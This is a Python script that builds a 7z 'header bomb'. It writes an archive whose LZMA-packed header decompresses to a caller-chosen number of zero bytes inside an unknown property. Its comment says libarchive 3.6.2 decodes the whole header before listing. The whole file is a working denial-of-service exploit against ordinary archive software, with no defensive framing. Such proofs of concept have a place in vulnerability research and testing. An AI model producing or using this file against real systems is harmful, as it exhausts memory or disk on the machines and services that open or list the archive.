# make_7z_header_bomb.py SIZE OUT - writes a 7z whose LZMA-packed ("encoded") header decodes to
# SIZE zero bytes inside one unknown property: what libarchive 3.6.2 decodes whole before listing.
import lzma, struct, sys, zlib
S = int(sys.argv[1]); out = sys.argv[2]
def enc(v):
    for n in range(9):
        if n == 8: return bytes([0xff]) + v.to_bytes(8, 'little')
        if v < (1 << (7 * (n + 1))):
            mask = (0xff << (8 - n)) & 0xff
            return bytes([mask | (v >> (8 * n))]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, 'little')
head = b'\x01\x05' + enc(1) + b'\x19' + enc(S)
dict_size = 1 << 20
c = lzma.LZMACompressor(format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size, "lc": 3, "lp": 0, "pb": 2}])
packed = c.compress(head)
chunk = bytes(1 << 20)
left = S
while left:
    n = min(left, len(chunk)); packed += c.compress(chunk[:n]); left -= n
packed += c.flush()
unpack = len(head) + S
props = bytes([(2 * 5 + 0) * 9 + 3]) + struct.pack('<I', dict_size)
nh = b'\x17' + b'\x06' + enc(0) + enc(1) + b'\x09' + enc(len(packed)) + b'\x00'
nh += b'\x07\x0b' + enc(1) + b'\x00' + enc(1) + bytes([0x23]) + b'\x03\x01\x01' + enc(5) + props
nh += b'\x0c' + enc(unpack) + b'\x00\x00'
start = struct.pack('<QQI', len(packed), len(nh), zlib.crc32(nh))
data = b'7z\xbc\xaf\x27\x1c\x00\x04' + struct.pack('<I', zlib.crc32(start)) + start + packed + nh
open(out, 'wb').write(data)
print(out, len(data), 'bytes; decoded header', unpack)
